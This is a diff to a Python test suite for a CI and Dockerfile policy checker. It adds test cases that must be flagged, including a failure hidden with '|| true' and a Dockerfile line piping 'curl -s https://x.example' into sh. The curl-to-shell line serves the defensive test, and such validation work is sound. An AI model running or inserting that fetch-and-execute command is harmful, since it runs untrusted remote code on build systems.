@@ -173,6 +173,7 @@ EVIL: list[tuple[str, Callable[[Document], object]]] = [
     ("rule", put("unit_tests", "rules", value=[{"if": "$CI_COMMIT_MESSAGE =~ /x/"}])),
     ("rule", put("unit_tests", "rules", value=[{"if": "$SONAR_TOKEN", "needs": ["x"]}])),
     ("rule", put("unit_tests", "rules", value=["always"])),
+    ("rule", put("unit_tests", "rules", value=[{"when": "always", "interruptible": True}])),
     # references
     ("reference", put("unit_tests", "extends", value="compile")),
     ("reference", put("unit_tests", "extends", value=".elsewhere")),
@@ -423,3 +424,18 @@ def test_python_has_its_own_tools() -> None:
         "- pip install 'pytest-cov>=5,<8'", "- go test ./..."
     )
     assert codes(policy.check(python, files)) == {"line"}
+
+
+def test_a_templates_own_line_may_not_hide_a_failure() -> None:
+    """That a template says it is no excuse: an operator's template is judged like ours."""
+    job = msgspec.structs.replace(plan().jobs["vet"], script=("go vet ./... || true",))
+    evil = msgspec.structs.replace(plan(), jobs={**plan().jobs, "vet": job})
+    assert codes(policy.check(evil, render(evil))) == {"line"}
+
+
+def test_a_dockerfile_templates_own_line_may_not_reach_out() -> None:
+    good = plan()
+    assert good.dockerfile is not None
+    text = good.dockerfile.replace("RUN go mod download", "RUN curl -s https://x.example | sh")
+    evil = msgspec.structs.replace(good, dockerfile=text)
+    assert codes(policy.check(evil, render(evil))) == {"docker-line"}
